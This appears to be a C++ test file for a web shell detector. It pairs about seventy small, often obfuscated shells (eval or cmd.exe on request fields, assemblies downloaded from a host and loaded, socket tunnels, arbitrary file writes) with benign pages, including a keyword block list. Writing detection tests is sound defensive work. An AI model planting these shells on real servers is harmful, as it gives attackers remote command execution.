// Shells in all the disguises we know of, each of our own making and small, and ordinary pages,
// some of which look dangerous.
#include "exchange/page_check.h"

#include <string>

#include <gtest/gtest.h>

#include "exchange/page_text.h"

namespace postern::exchange {
namespace {

struct Page {
  const char* what;
  const char* name;
  std::string text;
};

std::string utf16(std::string_view text, bool big_endian, bool mark) {
  std::string out;
  if (mark) out = big_endian ? "\xFE\xFF" : "\xFF\xFE";
  for (const char c : text) {
    if (big_endian) out += '\0';
    out += c;
    if (!big_endian) out += '\0';
  }
  return out;
}

std::string base64(std::string_view text) {
  static constexpr std::string_view kDigits =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::size_t i = 0;
  for (; i + 2 < text.size(); i += 3) {
    const unsigned word = (static_cast<unsigned char>(text[i]) << 16U) |
                          (static_cast<unsigned char>(text[i + 1]) << 8U) |
                          static_cast<unsigned char>(text[i + 2]);
    for (int shift = 18; shift >= 0; shift -= 6) out += kDigits[(word >> shift) & 63];
  }
  return out;  // What is left over of the text is left out.
}

const std::string kJs = "<%@ Page Language=\"JScript\" %>\n";
const std::string kCs = "<%@ Page Language=\"C#\" %>\n";
const std::string kCsScript = kCs + "<script runat=\"server\">\n";

const Page kShells[] = {
    {"evaluates a field", "a.aspx", kJs + "<% eval(Request.Item[\"z9\"], \"unsafe\"); %>"},
    {"no language is named", "a.aspx", "<%eval(Request.Item['z9'],'unsafe');%>"},
    {"in a script tag", "a.aspx",
     "<script language=JScript runat=server>function Page_Load(){eval(Request['q'],'unsafe');}"
     "</script>"},
    {"the tag in entities", "a.aspx",
     "<script Language=\"JScript\" runat=\"&#x73;erver\">eval(Request[\"q\"]);</script>"},
    {"UTF-16 with its mark", "a.aspx", utf16(kJs + "<% eval(Request[\"p1\"]); %>", false, true)},
    {"UTF-16 the other way round", "a.aspx",
     utf16(kJs + "<% eval(Request[\"p1\"]); %>", true, true)},
    {"UTF-16 without a mark", "a.aspx", utf16(kJs + "<% eval(Request[\"p1\"]); %>", false, false)},
    {"names in escapes", "a.aspx", kJs + "<% \\u0065\\u0076\\u0061l(\\u0052equest[\"p\"]); %>"},
    {"names in long escapes", "a.aspx",
     kCs + "<% System.Diagnostics.\\U00000050\\U00000072ocess.\\U00000053tart(Request[\"p\"]); %>"},
    {"names broken by what is not seen", "a.aspx",
     kCs + "<% Pro\xE2\x80\x8C"
           "cess.St\xE2\x80\x8D"
           "art(Request[\"p\"]); %>"},
    {"comments between everything", "a.aspx",
     kJs + "<% eval/*a*/(/*b*/Request/*c*/./*d*/Item/*e*/[\"x\"]); %>"},
    {"a line between everything", "a.aspx", kJs + "<% eval\n(\nRequest\n[\n\"x\"\n]\n)\n; %>"},
    {"a variable between", "a.aspx",
     kJs + "<% var c = Request[\"x\"]; var d = c + \"\"; eval(d); %>"},
    {"the name of the field made of pieces", "a.aspx",
     kJs + "<% eval(Request[\"a\" + \"b\" + \"c\"]); %>"},
    {"what is evaluated is base64", "a.aspx",
     kJs + "<% eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(\"" +
         base64("Response.Write(eval(Request[\"k\"]));;;") + "\")), \"unsafe\"); %>"},
    {"base64 from the client", "a.aspx",
     kJs + "<% eval(System.Text.Encoding.Default.GetString(System.Convert.FromBase64String("
           "Request.Form[\"d\"])), \"unsafe\"); %>"},
    {"characters by number", "a.aspx",
     kJs +
         "<% var f = String.fromCharCode(101,118,97,108,40,82,101,113,117,101,115,116,91,48,93,41);"
         " eval(f, \"unsafe\"); %>"},
    {"eval by another name", "a.aspx",
     kJs + "<% var e = eval; var r = Request; eval(r[\"q\"]); %>"},
    {"classic execute", "a.asp", "<%execute(request(\"w\"))%>"},
    {"classic execute, without brackets", "a.asp", "<% Execute Request(\"w\") %>"},
    {"classic eval", "a.asp", "<%@ LANGUAGE=VBSCRIPT %><%=eval(request.form(\"w\"))%>"},
    {"classic, under a certificate's name", "a.cer", "<%EXECUTEGLOBAL(request(\"w\"))%>"},
    {"classic, turned round", "a.asp",
     "<% s = StrReverse(\")\"\"w\"\"(tseuqer lave\") : Execute(s) %>"},
    {"classic, by numbers", "a.asp",
     "<% Execute(Chr(101)&Chr(118)&Chr(97)&Chr(108)&\" \"&request(\"w\")) %>"},
    {"classic, a shell's object", "a.asp",
     "<% Set o = Server.CreateObject(\"WScript\" & \".Shell\")\n"
     "Set e = o.Exec(Request.QueryString(\"do\")) %>"},
    {"a command line", "b.aspx",
     kCsScript +
         "void Page_Load(object s, EventArgs e){ System.Diagnostics.Process p = new "
         "System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; "
         "p.StartInfo.Arguments = \"/c \" + Request.QueryString[\"do\"]; p.Start(); }</script>"},
    {"a command line behind a function", "b.aspx",
     kCsScript +
         "string Run(string what){ ProcessStartInfo i = new ProcessStartInfo(); i.FileName = "
         "\"powershell\"; i.Arguments = what; return Process.Start(i).StandardOutput.ReadToEnd"
         "();}\nvoid Page_Load(object s, EventArgs e){ Response.Write(Run(Request[\"q\"])); }"
         "</script>"},
    {"a command line from a form", "b.aspx",
     kCs + "<script runat=server>void Go(object s, EventArgs e){ var p = new Process(); "
           "p.StartInfo.FileName = box1.Text; p.StartInfo.Arguments = box2.Text; p.Start(); }"
           "</script><form runat=server><asp:TextBox id=box1 runat=server/><asp:TextBox id=box2 "
           "runat=server/></form>"},
    {"a command line in VB", "b.aspx",
     "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As "
     "EventArgs)\n  Dim i As New System.Diagnostics.ProcessStartInfo()\n  i.FileName = "
     "\"cmd.exe\"\n"
     "  i.Arguments = \"/c \" & Request.Form(\"q\")\n  System.Diagnostics.Process.Start(i)\nEnd "
     "Sub\n"
     "</script>"},
    {"VB's own shell", "b.aspx", "<%@ Page Language=\"VB\" %>\n<% Shell(Request(\"go\"), 0) %>"},
    {"names of types in pieces", "b.aspx",
     kCs + "<% var t = System.Type.GetType(\"System.Diag\" + \"nostics.Pro\" + \"cess, System\"); "
           "t.GetMethod(\"St\" + \"art\", new[]{typeof(string)}).Invoke(null, new object[]{Request["
           "\"x\"]}); %>"},
    {"names of types with marks in them", "b.aspx",
     kCs +
         "<% var n = \"Sys~tem.Dia~gnos~tics.Pro~cess\".Replace(\"~\", \"\"); var t = "
         "Type.GetType(n); t.InvokeMember(\"Start\", f, null, null, new object[]{Request[\"x\"]}); "
         "%>"},
    {"names of types turned round", "b.aspx",
     kCs + "<% char[] c = \"ssecorP.scitsongaiD.metsyS\".ToCharArray(); Array.Reverse(c); var t = "
           "Type.GetType(new string(c)); t.GetMethod(\"Start\").Invoke(null, new object[]{Request["
           "\"x\"]}); %>"},
    {"names of types in hexadecimal", "b.aspx",
     kCs + "<% var t = "
           "Type.GetType(FromHex(\"53797374656d2e446961676e6f73746963732e50726f63657373\"));"
           " t.GetMethod(\"Start\").Invoke(null, new object[]{Request[\"x\"]}); %>"},
    {"names of types by single characters", "b.aspx",
     kCs + "<% var n = new string(new char[]{'c','m','d','.','e','x','e'}); var t = "
           "Type.GetType(Request[\"t\"]); %>"},
    {"names of types as numbers", "b.aspx",
     kCs + "<% var n = System.Text.Encoding.ASCII.GetString(new "
           "byte[]{87,83,99,114,105,112,116,46,83,"
           "104,101,108,108}); var o = Activator.CreateInstance(Type.GetTypeFromProgID(n)); "
           "o.GetType().InvokeMember(\"Run\", f, null, o, new object[]{Request[\"x\"]}); %>"},
    {"an assembly that a client sends", "c.aspx",
     kCs + "<% var a = System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength)); "
           "a.CreateInstance(\"U\").Equals(Page); %>"},
    {"an assembly, encrypted, kept in the session", "c.aspx",
     kCs + "<% byte[] d = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k)"
           ".TransformFinalBlock(Context.Request.BinaryRead(n), 0, n); if (Session[\"p\"] == null) "
           "Session[\"p\"] = System.Reflection.Assembly.Load(d); %>"},
    {"an assembly, xored", "c.aspx",
     kCs + "<% byte[] d = Convert.FromBase64String(blob); for (int i = 0; i < d.Length; i++) "
           "d[i] = (byte)(d[i] ^ 42); System.Reflection.Assembly.Load(d).EntryPoint.Invoke(null, "
           "null);"
           " %>"},
    {"an assembly from another server", "c.aspx",
     kCs + "<% var d = new System.Net.WebClient().DownloadData(host); "
           "System.Reflection.Assembly.Load(d).CreateInstance(\"R\"); %>"},
    {"code that is compiled", "c.aspx",
     kCs + "<% var p = new Microsoft.CSharp.CSharpCodeProvider(); p.CompileAssemblyFromSource(o, "
           "Request.Form[\"code\"]); %>"},
    {"a handler", "d.ashx",
     "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic class H : "
     "IHttpHandler "
     "{ public void ProcessRequest(HttpContext ctx) { "
     "System.Diagnostics.Process.Start(\"cmd.exe\", "
     "\"/c \" + ctx.Request[\"q\"]); } public bool IsReusable { get { return true; } } }"},
    {"a web service", "d.asmx",
     "<%@ WebService Language=\"C#\" Class=\"S\" %>\nusing System;\npublic class S : "
     "System.Web.Services.WebService { [WebMethod] public string Do(string what) { var p = "
     "System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + what); return p.Id.ToString(); } }"},
    {"a web service in JScript", "d.asmx",
     "<%@ WebService Language=\"JScript\" Class=\"S\" %>\nimport System.Web;\npublic class S "
     "extends "
     "WebService { WebMethodAttribute function Go(what : String) { return eval(what, \"unsafe\"); "
     "} }"},
    {"under .soap", "d.soap",
     "<%@ WebService Language=\"C#\" Class=\"S\" %>\npublic class S { [WebMethod] public void Put("
     "string path, string body) { System.IO.File.WriteAllText(path, body); } }"},
    {"writes where it is told", "e.aspx",
     kCs + "<% System.IO.File.WriteAllText(Request[\"path\"], Request[\"body\"]); %>"},
    {"writes a page", "e.aspx",
     kCs +
         "<% System.IO.File.WriteAllText(Server.MapPath(\"~/x1.aspx\"), Request.Form[\"b\"]); %>"},
    {"keeps an upload where it is told", "e.aspx",
     kCs + "<% Request.Files[0].SaveAs(Request.Form[\"where\"]); %>"},
    {"classic, writes where it is told", "e.asp",
     "<% Set f = "
     "Server.CreateObject(\"Scripting.FileSystemObject\")\nf.CreateTextFile(Request(\"p\"))"
     ".Write Request(\"b\") %>"},
    {"revives objects", "f.aspx",
     kCs +
         "<% var f = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter(); "
         "f.Deserialize(new System.IO.MemoryStream(Convert.FromBase64String(Request[\"o\"]))); %>"},
    {"a tunnel", "f.aspx",
     kCs + "<% var s = new System.Net.Sockets.Socket(a, b, c); s.Connect(Request.Headers[\"X-T\"], "
           "port); s.Receive(buf); Response.BinaryWrite(buf); %>"},
    {"a style sheet with script", "f.aspx",
     kCs +
         "<% var t = new System.Xml.Xsl.XslCompiledTransform(); var s = XsltSettings.TrustedXslt; "
         "t.Load(new XmlTextReader(new StringReader(Request[\"x\"])), s, null); %>"},
    {"machine code", "f.aspx",
     kCs + "<script runat=server>[DllImport(\"kernel32\")] static extern IntPtr "
           "VirtualAlloc(IntPtr a, "
           "UIntPtr b, uint c, uint d);</script>"},
    {"PowerShell without a process", "f.aspx",
     kCs + "<% var r = RunspaceFactory.CreateRunspace(); var p = r.CreatePipeline(); "
           "p.Commands.AddScript(Request[\"c\"]); %>"},
    {"its code in a picture", "g.aspx",
     "<%@ Page Language=\"C#\" Src=\"logo.jpg\" Inherits=\"X\" %>"},
    {"includes a picture", "g.asp", "<!--#include file=\"images/top.gif\"-->"},
    {"UTF-7", "g.aspx", "<%@ Page Language=\"C#\" CodePage=\"65000\" %>+ADw-"},
    {"a server-side include", "g.shtml", "<!--#exec cmd=\"dir\" -->"},
    {"an address book's URL", "h.aspx",
     "Name : OAB (Default Web Site)\nInternalAuthenticationMethods : WindowsIntegrated\n"
     "ExtendedProtectionTokenChecking : None\nExternalUrl : http://f/<script language=\"JScript\" "
     "runat=\"server\">function Page_Load(){eval(Request[\"q\"],\"unsafe\");}</script>\n"},
    {"a mailbox export", "h.aspx",
     std::string("!BDN\x01\x02\0\0\xFF", 9) +
         "<script language='JScript' runat='server'>eval(Request"
         "['q'],'unsafe')</script>" +
         std::string("\0\0\x01\x02", 4)},
    {"a certificate request", "h.aspx",
     std::string("\x30\x82\x04\x01\0\x02", 6) +
         "<%@ Page Language=\"JScript\"%><%eval(Request['q'])%>"},
    {"reads the machine keys", "h.aspx",
     kCs + "<% var s = (MachineKeySection)c.GetSection(\"system.web/machineKey\"); "
           "Response.Write(s.ValidationKey); %>"},
    {"pages that are in no file", "h.aspx",
     kCs + "<% HostingEnvironment.RegisterVirtualPathProvider(new P()); %>"},
    {"PHP", "i.php", "<?php $f = $_POST['a']; @eval($f); ?>"},
    {"JSP", "i.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"},
    {"ColdFusion", "i.cfm", "<cfexecute name=\"#url.x#\" timeout=\"9\"></cfexecute>"},
    {"in Razor", "i.cshtml", "@{ System.Diagnostics.Process.Start(Request[\"q\"]); }"},
    {"a block of markup before it", "i.aspx",
     "<html><body><h1>404 - File or directory not found.</h1></body></html>\n" +
         std::string(6000, ' ') + "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"k\"]);%>"},
    {"a long name in capitals", "i.ASPX", "<%@ PAGE LANGUAGE=JSCRIPT %><% EVAL(REQUEST['Q']); %>"},
};

const Page kOrdinary[] = {
    {"nothing", "a.aspx", ""},
    {"markup alone", "a.aspx", "<html><body><h1>Hello</h1></body></html>"},
    {"only its code-behind", "a.aspx",
     "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" Inherits=\"Contoso.Web.Logon\" %>"},
    {"its code-behind in a file", "a.aspx",
     "<%@ Page Language=\"C#\" CodeFile=\"Default.aspx.cs\" Inherits=\"_Default\" %>"},
    {"data binding", "a.aspx",
     kCs + "<asp:Repeater runat=server><ItemTemplate><%# Eval(\"Name\") %> <%# "
           "DataBinder.Eval(Container.DataItem, \"Price\", \"{0:c}\") "
           "%></ItemTemplate></asp:Repeater>"},
    {"data binding with the request beside it", "a.aspx", kCs + "<%# Eval(Request[\"column\"]) %>"},
    {"eval in the browser", "a.aspx",
     kCs + "<script type=\"text/javascript\">var x = eval('(' + Request + ')'); "
           "eval(data);</script>"},
    {"a redirect", "a.aspx", kCs + "<% Response.Redirect(\"/owa\"); %>"},
    {"an answer to a query", "a.aspx",
     kCs + "<% Response.Write(Server.HtmlEncode(Request.QueryString[\"name\"])); %>"},
    {"a page of errors", "a.aspx",
     kCs + "<script runat=server>protected void Page_Load(object s, EventArgs e){ string code = "
           "Request.QueryString[\"httpCode\"]; if (code == \"404\") Response.StatusCode = 404; }"
           "</script>"},
    {"a log-on page", "a.aspx",
     kCs + "<form runat=server><asp:TextBox id=user runat=server/><asp:TextBox id=pass "
           "TextMode=Password runat=server/></form><script runat=server>void Go(object s, "
           "EventArgs e)"
           "{ if (Membership.ValidateUser(user.Text, pass.Text)) "
           "FormsAuthentication.RedirectFromLoginPage(user.Text, false); }</script>"},
    {"base64 of a client's header", "a.ashx",
     "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H { void P(HttpContext c) { var "
     "b = "
     "Convert.FromBase64String(c.Request.Headers[\"Authorization\"].Substring(6)); } }"},
    {"an upload into its folder", "b.aspx",
     kCs + "<script runat=server>void Go(object s, EventArgs e){ "
           "FileUpload1.SaveAs(Server.MapPath(\"~/uploads/\") + Guid.NewGuid() + \".dat\"); "
           "}</script>"},
    {"an upload by its own name", "b.ashx",
     "<%@ WebHandler Language=\"C#\" Class=\"U\" %>\npublic class U { void P(HttpContext c) { var "
     "f = "
     "c.Request.Files[0]; f.SaveAs(c.Server.MapPath(\"~/up/\" + Path.GetFileName(f.FileName))); } "
     "}"},
    {"a log of clients", "b.aspx",
     kCs + "<% System.IO.File.AppendAllText(Server.MapPath(\"~/App_Data/hits.log\"), "
           "Request.UserAgent + \"\\n\"); %>"},
    {"a query of a database", "b.aspx",
     kCs + "<% var c = new SqlConnection(ConfigurationManager.ConnectionStrings[\"x\"]"
           ".ConnectionString); var q = new SqlCommand(\"SELECT a FROM b WHERE id=@id\", c); "
           "q.Parameters.AddWithValue(\"@id\", Request.QueryString[\"id\"]); %>"},
    {"classic, a query that executes", "b.asp",
     "<% Set c = Server.CreateObject(\"ADODB.Connection\")\nc.Open Application(\"dsn\")\nSet r = "
     "c.Execute(\"SELECT * FROM t WHERE id=\" & CInt(Request(\"id\"))) %>"},
    {"classic, a counter in a file", "b.asp",
     "<% Set f = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet t = "
     "f.OpenTextFile(Server.MapPath(\"hits.txt\"), 1)\nn = CLng(t.ReadLine) + 1 %>"},
    {"classic, another page", "b.asp", "<% Server.Execute(\"/inc/top.asp\") %>"},
    {"classic, mail", "b.asp",
     "<% Set m = CreateObject(\"CDO.Message\")\nm.To = \"a@b.example\"\nm.TextBody = "
     "Request.Form(\"text\")\nm.Send %>"},
    {"classic, includes", "b.asp", "<!--#include virtual=\"/inc/head.inc\"-->\n<p>Hello</p>"},
    {"an assembly by its constant name", "c.aspx",
     kCs + "<% var a = System.Reflection.Assembly.Load(\"App_Code\"); Response.Write(a.FullName + "
           "Request[\"x\"]); %>"},
    {"its own version", "c.aspx",
     kCs + "<%= System.Reflection.Assembly.GetExecutingAssembly().GetName().Version %>"},
    {"its own process", "c.aspx",
     kCs + "<%= System.Diagnostics.Process.GetCurrentProcess().WorkingSet64 %> <%= "
           "Request.QueryString[\"x\"] %>"},
    {"a plug-in by configuration", "c.aspx",
     kCs + "<% var t = Type.GetType(ConfigurationManager.AppSettings[\"provider\"]); var p = "
           "(IProvider)Activator.CreateInstance(t); %>"},
    {"an event that is raised", "c.ascx",
     "<%@ Control Language=\"C#\" %><script runat=server>public event EventHandler Done; void "
     "Go(object"
     " s, EventArgs e){ if (Done != null) Done.Invoke(this, e); string q = Request[\"q\"]; "
     "}</script>"},
    {"a page about dangerous words", "c.aspx",
     kCs + "<p>Never call eval(Request[\"x\"]) or Process.Start(\"cmd.exe\").</p>"},
    {"a list of dangerous words", "c.aspx",
     kCs +
         "<% var bad = new[]{\"cmd.exe\", \"eval(\", \"xp_cmdshell\", \"WScript.Shell\"}; foreach "
         "(var b in bad) if (Request.RawUrl.Contains(b)) Response.StatusCode = 403; %>"},
    {"a command in a comment of the page", "c.aspx",
     kCs + "<%-- Process.Start(Request[\"x\"]) was here --%><p>ok</p>"},
    {"a command in a comment of the code", "c.aspx",
     kCs +
         "<% // eval(Request[\"x\"])\n /* Process.Start(Request[\"y\"]) */ Response.Write(1); %>"},
    {"a picture made on the fly", "d.ashx",
     "<%@ WebHandler Language=\"C#\" Class=\"I\" %>\npublic class I : IHttpHandler { public void "
     "ProcessRequest(HttpContext c) { int w = int.Parse(c.Request[\"w\"]); using (var b = new "
     "Bitmap(w,"
     " w)) b.Save(c.Response.OutputStream, ImageFormat.Png); } }"},
    {"a download from its folder", "d.ashx",
     "<%@ WebHandler Language=\"C#\" Class=\"D\" %>\npublic class D { void P(HttpContext c) { "
     "c.Response.TransmitFile(c.Server.MapPath(\"~/files/\" + "
     "Path.GetFileName(c.Request[\"f\"]))); } }"},
    {"a web service", "d.asmx",
     "<%@ WebService Language=\"C#\" Class=\"S\" %>\npublic class S : WebService { [WebMethod] "
     "public "
     "int Add(int a, int b) { return a + b; } [WebMethod] public string Hello(string who) { return "
     "\"Hello \" + who; } }"},
    {"a web service by its class", "d.asmx",
     "<%@ WebService Language=\"C#\" CodeBehind=\"S.asmx.cs\" Class=\"Contoso.S\" %>"},
    {"a WCF service", "d.svc",
     "<%@ ServiceHost Language=\"C#\" Debug=\"false\" Service=\"Contoso.Calculator\" %>"},
    {"the application's events", "d.asax",
     "<%@ Application Language=\"C#\" %>\n<script runat=\"server\">void Application_Error(object "
     "s, "
     "EventArgs e){ var x = Server.GetLastError(); EventLog.WriteEntry(\"App\", x.ToString() + "
     "Request.RawUrl); }</script>"},
    {"a decryption of a cookie", "d.aspx",
     kCs + "<% var t = FormsAuthentication.Decrypt(Request.Cookies[\"a\"].Value); %>"},
    {"a hash", "d.aspx",
     kCs + "<% var h = MD5.Create().ComputeHash(Encoding.UTF8.GetBytes(Request[\"x\"])); %>"},
    {"a picture in base64", "d.aspx",
     kCs + "<% var logo = \"" + base64(std::string(3000, '\x7F')) + "\"; %>"},
    {"a GUID in hexadecimal", "d.aspx",
     kCs + "<% var id = \"0a1b2c3d4e5f60718293a4b5c6d7e8f9\"; %>"},
    {"words in another alphabet", "d.aspx",
     kCs + "<% var s = \"\\u0417\\u0434\\u0440\\u0430\\u0432\\u0441\\u0442\\u0432\\u0443\\u0439\"; "
           "%>"},
    {"a mark of direction in its text", "d.aspx", kCs + "<p>\xE2\x80\x8F shalom</p>"},
    {"UTF-16 as an editor leaves it", "d.aspx",
     utf16(kCs + "<p>Hello, hello, hello</p>", false, true)},
    {"a proxy's healthcheck", "d.aspx",
     kCs + "<% Response.Write(\"200 OK<br/>\" + Environment.MachineName); %>"},
    {"a style sheet without script", "d.aspx",
     kCs +
         "<% var t = new XslCompiledTransform(); t.Load(Server.MapPath(\"a.xsl\")); t.Transform(x, "
         "null, Response.OutputStream); var q = Request[\"q\"]; %>"},
    {"objects kept in the session", "d.aspx",
     kCs + "<% var f = new BinaryFormatter(); var o = f.Deserialize(stream); var q = "
           "Request[\"q\"]; %>"},
    {"a TCP check of a constant host", "d.aspx",
     kCs + "<% var t = new TcpClient(\"localhost\", 25); Response.Write(t.Connected ? \"up\" : "
           "\"down\"); var q = Request[\"q\"]; %>"},
    {"a settings page without script", "d.aspx",
     "<p>ExternalUrl InternalAuthenticationMethods ExtendedProtectionTokenChecking</p>"},
    {"PHP that greets", "i.php", "<?php echo htmlspecialchars($_GET['n']); ?>"},
    {"JSP that greets", "i.jsp", "<%= request.getParameter(\"n\") %>"},
    {"VB that greets", "i.aspx",
     "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\n' It doesn't run anything\nSub "
     "Page_Load()\n  L.Text = \"Hello \" & Request(\"n\")\nEnd Sub\n</script><asp:Label id=L "
     "runat=server/>"},
};

std::string text_of_signs(const std::vector<PageSign>& signs) {
  std::string out;
  for (const PageSign& sign : signs) {
    out += sign.rule + " " + std::to_string(sign.confidence) + " " + sign.what + "\n";
  }
  return out;
}

TEST(PageCheck, FindsAShellInEachDisguise) {
  ASSERT_GE(std::size(kShells), 40U);
  for (const Page& page : kShells) {
    SCOPED_TRACE(page.what);
    const auto signs = check_page(page.name, octets_of(page.text));
    ASSERT_FALSE(signs.empty());
    EXPECT_GE(signs.front().confidence, 80) << text_of_signs(signs);
  }
}

TEST(PageCheck, SaysNothingOfOrdinaryPages) {
  ASSERT_GE(std::size(kOrdinary), 40U);
  for (const Page& page : kOrdinary) {
    SCOPED_TRACE(page.what);
    const auto signs = check_page(page.name, octets_of(page.text));
    EXPECT_TRUE(signs.empty() || signs.front().confidence < 60) << text_of_signs(signs);
    EXPECT_TRUE(signs.empty()) << text_of_signs(signs);
  }
}

TEST(PageCheck, NamesTheRule) {
  const auto rule = [](std::string_view what) {
    for (const Page& page : kShells) {
      if (page.what == what) return check_page(page.name, octets_of(page.text)).front().rule;
    }
    return std::string();
  };
  EXPECT_EQ(rule("an address book's URL"), "PL-17");
  EXPECT_EQ(rule("a mailbox export"), "PS-08");
  EXPECT_EQ(rule("a certificate request"), "PS-08");
  EXPECT_EQ(rule("evaluates a field"), "F-06");
}

TEST(PageCheck, LooksAtAHugePageOnlyUpToItsBound) {
  const std::string shell = kJs + "<% eval(Request[\"q\"]); %>";
  EXPECT_FALSE(
      check_page("a.aspx", octets_of(std::string(kMaxPageOctets / 2, ' ') + shell)).empty());
  EXPECT_TRUE(check_page("a.aspx", octets_of(std::string(kMaxPageOctets, ' ') + shell)).empty());
}

TEST(PlainCode, IsWhatACompilerTakes) {
  const struct {
    std::string code, want;
  } cases[] = {
      {"Process . Start ( x )", "process.start(x)"},
      {"new  Process ( )", "new process()"},
      {"a /* b */ . c // d\n ; e", "a.c;e"},
      {"\"a\" + \"b\" + 'c'", "\"abc\""},
      {"@\"c:\\x\" + @eval", "\"c:\\x\"+eval"},
      {"\"\\x65\\u0076\\\"al\"", "\"eval\""},
      {"(char)101 + Chr(118)", "\"ev\""},
      {"\\u0065val", "eval"},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.code);
    EXPECT_EQ(plain_code(c.code, true).lower, c.want);
  }
  EXPECT_EQ(plain_code("a = 1 _\n + 2\nb = 3 ' it's", false).lower, "a=1+2\nb=3'it's");
}

TEST(HasServerCode, IsTrueOfAnyFileThatHoldsIt) {
  EXPECT_TRUE(has_server_code(octets_of("GIF89a<%@ Page %>")));
  EXPECT_TRUE(has_server_code(octets_of("x<SCRIPT language=c# RUNAT = server>y")));
  EXPECT_FALSE(has_server_code(octets_of("<script>eval(1)</script>")));
  EXPECT_FALSE(has_server_code(octets_of("100%")));
}

}  // namespace
}  // namespace postern::exchange
